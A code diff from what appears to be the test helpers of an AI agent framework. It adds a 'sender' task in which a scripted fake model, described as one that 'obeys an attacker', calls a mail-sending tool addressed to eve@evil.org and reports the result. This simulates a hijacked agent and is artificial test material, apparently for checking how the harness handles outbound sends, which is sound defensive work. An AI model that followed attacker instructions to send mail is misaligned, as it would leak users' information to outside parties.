@@ -17,7 +17,7 @@ from trivium.schema import Usage
 from trivium.testing import ScriptedModel, call_tool
 from workers._programs import Stateless, clerk
 
-__all__ = ["Unsendable", "buyer", "limited", "office", "priced", "shouter", "stumbling", "text_of", "waiter"]
+__all__ = ["Unsendable", "buyer", "limited", "office", "priced", "sender", "shouter", "stumbling", "text_of", "waiter"]
 
 
 def office(url: str, seconds: float) -> Task:
@@ -65,6 +65,21 @@ def buyer() -> Task:
 
     model = Stateless(call_tool("buy", item="tea"), "DONE It is bought.")
     return Task(Agent(model, tools=[buy], name="buyer"), interactive=False)
+
+
+def sender() -> Task:
+    """Obeys an attacker, and says what came of it."""
+
+    @tool(sends=True)
+    def send_mail(to: str) -> str:
+        """Send a mail."""
+        return f"sent {to}"
+
+    def obey(request: Request) -> Any:
+        last = request.messages[-1]
+        return f"DONE {last['content']}" if last["role"] == "tool" else call_tool("send_mail", to="eve@evil.org")
+
+    return Task(Agent(ScriptedModel(obey), tools=[send_mail], name="sender"), interactive=False)
 
 
 class Waiting:
